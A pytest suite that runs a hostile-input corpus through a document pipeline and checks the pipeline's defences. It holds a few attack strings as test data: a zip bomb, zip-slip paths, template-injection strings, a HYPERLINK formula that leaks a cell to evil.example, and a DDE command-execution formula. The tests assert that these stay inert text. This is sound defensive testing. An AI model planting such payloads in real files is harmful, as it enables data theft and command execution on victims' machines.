"""The hostile-input corpus (tests/corpus, made by tests/corpus/make_corpus.py) through the real
pipeline: one ``certpipe run`` with two workers over every case at once, then the watcher over the
same inputs. For every case: processing finishes; a rejected file is rejected for the expected
reason, naming the cell where there is one; an accepted file's text is in the report literally
(never evaluated), never a formula in register.xlsx, and nothing is written outside outbox/."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from pipeline.config import Config, Intake
from pipeline.core.text import clean
from pipeline.filenames import safe_name
from pipeline.flow.check_file import validate_file
from pipeline.flow.job import shown_name
from pipeline.flow.ledger import Ledger
from pipeline.flow.process import Processor
from pipeline.flow.watcher import InboxWatcher
from pipeline.workspace import Workspace

pytestmark = pytest.mark.slow

CORPUS = Path(__file__).resolve().parent / "corpus"
CASES = json.loads((CORPUS / "manifest.json").read_text(encoding="utf-8"))
BY_NAME = {c["case"]: c for c in CASES}
ESCAPES = ("/tmp/certpipe-zipslip.txt", "/etc/certpipe-zipslip.txt")
_WINDOWS_BAD = re.compile(r'[\x00-\x1f\x7f/\\:*?"<>|]')
_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(10)), *(f"LPT{i}" for i in range(10))}


def inbox_name(case: dict) -> str:
    return os.fsdecode(bytes.fromhex(case["inbox_name_hex"])) if "inbox_name_hex" in case else case["inbox_name"]


def fill_inbox(ws: Workspace, cases: list[dict]) -> None:
    for folder in (ws.inbox, ws.outbox, ws.archive):
        folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        shutil.copy(CORPUS / "files" / case["file"], ws.inbox / inbox_name(case))


_BATCH = """
import json, resource, sys
from pathlib import Path
from pipeline.flow.run import run_inbox
from pipeline.config import Config, Intake
from pipeline.workspace import Workspace
# hostile files made elsewhere: their audit ids are none of this workspace's (accepted, to be read at all)
result = run_inbox(Workspace(Path(sys.argv[1])), Config(intake=Intake(accept_unknown_audits=True)), workers=2)
peak = {who: resource.getrusage(getattr(resource, who)).ru_maxrss // 1024 for who in ("RUSAGE_SELF", "RUSAGE_CHILDREN")}
print(json.dumps({"outcomes": [o.to_json() for o in result.outcomes], "peak_mib": peak}))
"""


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """Every case in one inbox, one run with two worker processes (in a child process, so its peak
    memory is its own)."""
    for escape in ESCAPES:
        Path(escape).unlink(missing_ok=True)
    ws = Workspace(tmp_path_factory.mktemp("corpus") / "ws")
    fill_inbox(ws, CASES)
    done = subprocess.run([sys.executable, "-c", _BATCH, str(ws.root)], capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.strip().splitlines()[-1])
    outcomes = {o["name"]: o for o in report["outcomes"]}
    return ws, outcomes, report["peak_mib"]


def document_text(path: Path) -> str:
    doc = Document(path)
    parts = [p.text for p in doc.paragraphs]
    parts += [c.text for table in doc.tables for row in table.rows for c in row.cells]
    return "\n".join(parts)


def test_the_corpus_is_big_and_varied_enough():
    assert len(CASES) >= 40
    assert sum(c["expect"] == "done" for c in CASES) >= 15 and sum(c["expect"] == "rejected" for c in CASES) >= 25
    bomb = zipfile.ZipFile(CORPUS / "files" / "zip-bomb.xlsx")
    assert max(i.file_size for i in bomb.infolist()) >= 1 << 30  # really inflates to a gigabyte


def test_every_input_finishes_and_leaves_the_inbox(batch):
    ws, outcomes, _ = batch
    assert sorted(outcomes) == sorted(shown_name(inbox_name(c)) for c in CASES)
    assert not [o for o in outcomes.values() if o["status"] not in ("done", "rejected")]
    assert list(ws.inbox.iterdir()) == []
    rows = Ledger(ws.state / "ledger.sqlite").rows()
    assert len(rows) == len(CASES) and all(r.archived_to for r in rows)
    assert list((ws.outbox / ".staging").iterdir()) == []


def test_memory_stays_bounded_with_a_gigabyte_bomb_in_the_batch(batch):
    _, _, peak = batch
    assert max(peak.values()) < 600, peak  # MiB; the bomb alone would need 1024


@pytest.mark.parametrize("name", [c["case"] for c in CASES if c["expect"] == "rejected"])
def test_rejected_with_a_clear_reason_naming_the_cell(batch, name):
    ws, outcomes, _ = batch
    case = BY_NAME[name]
    outcome = outcomes[shown_name(inbox_name(case))]
    assert outcome["status"] == "rejected", outcome
    problems = validate_file(CORPUS / "files" / case["file"]).problems
    found = [p for p in problems if p.key in case["keys"]]
    assert {p.key for p in found} == set(case["keys"]), [p.key for p in problems]
    folder = ws.root / outcome["output"]
    assert folder.parent == ws.rejected and folder.is_dir()
    assert not _WINDOWS_BAD.search(folder.name) and folder.name.split(".")[0].upper() not in _RESERVED
    assert len(folder.name) <= 100
    text = (folder / "problems.txt").read_text(encoding="utf-8")
    for problem in found:
        assert problem.text() in text and problem.hint() and problem.hint() in text
    if "cell" in case:
        where = case["cell"]
        located = [f"{p.sheet}!{p.cell}" for p in found if p.cell]
        assert any(loc == where or loc.split("!")[0] == where for loc in located), located
        assert all(loc in text for loc in located)


@pytest.mark.parametrize("name", [c["case"] for c in CASES if c["expect"] == "done"])
def test_accepted_text_is_literal_and_stays_in_the_outbox(batch, name):
    ws, outcomes, _ = batch
    case = BY_NAME[name]
    outcome = outcomes[shown_name(inbox_name(case))]
    assert outcome["status"] == "done", outcome
    assert outcome["audit_id"] == case["audit_id"]
    folder = ws.root / outcome["output"]
    assert folder.parent == ws.outbox and folder.name == safe_name(case["audit_id"])
    assert not _WINDOWS_BAD.search(folder.name) and folder.name.split(".")[0].upper() not in _RESERVED
    report = next(folder.glob("*-report.docx"))
    text = document_text(report)
    for field, value in case["literal"].items():
        assert clean(value) in text, (field, value)
    if "{{ 7*7 }}" in json.dumps(case["literal"], ensure_ascii=False):
        assert "{{ 7*7 }}" in text and "{% for x in range(3) %}x{% endfor %}" in text
        assert "{{ config.__class__ }}" in text and "Config" not in text
    card = json.loads((folder / "scorecard.json").read_text(encoding="utf-8"))
    assert card["audit_id"] == case["audit_id"]


def test_nothing_is_written_outside_the_outbox(batch):
    ws, _, _ = batch
    for escape in ESCAPES:
        assert not Path(escape).exists()
    outbox = ws.outbox.resolve()
    for path in ws.outbox.rglob("*"):
        assert not path.is_symlink() and path.resolve().is_relative_to(outbox)
    assert {p.name for p in ws.root.iterdir()} <= {"inbox", "outbox", "archive", ".certpipe"}


def test_the_register_holds_text_never_a_formula(batch):
    ws, outcomes, _ = batch
    sheet = load_workbook(ws.outbox / "register.xlsx").active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    # text is a string, numbers and dates are typed (sorting, date filters): nothing is ever a formula
    assert cells and all(c.data_type in ("s", "n", "d") for c in cells if c.value is not None)
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2, max_col=4) for c in row if c.value is not None)
    organisations = {c.value for c in sheet["B"][1:]}
    for case in CASES:
        org = case.get("literal", {}).get("org_name")
        if org and outcomes[shown_name(inbox_name(case))]["level"]:
            assert clean(org) in organisations, org
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")' in organisations
    assert "=cmd|' /C calc'!A0" in organisations


def test_the_watcher_keeps_going_through_the_corpus(tmp_path):
    """Every rejected case and a few accepted ones, handed over by the real watcher one by one."""
    cases = [c for c in CASES if c["expect"] == "rejected"] + [BY_NAME[n] for n in
                                                               ("jinja-everywhere.xlsx", "org-dde.xlsx", "macro.xlsm")]
    ws = Workspace(tmp_path / "ws")
    fill_inbox(ws, cases)
    processor = Processor(ws, Config(intake=Intake(accept_unknown_audits=True)))  # made elsewhere
    seen: list[str] = []
    stop = threading.Event()

    def handle(path: Path) -> None:
        seen.append(processor.process(path).status)
        if len(seen) == len(cases):
            stop.set()

    safety_net = threading.Timer(300, stop.set)  # never reached when all goes well
    safety_net.daemon = True
    safety_net.start()
    InboxWatcher(ws.inbox, handle, settle=0, grace=0).run(stop)
    safety_net.cancel()
    processor.close()
    assert len(seen) == len(cases) and set(seen) <= {"done", "rejected"}
    assert seen.count("done") == 3
    assert list(ws.inbox.iterdir()) == []
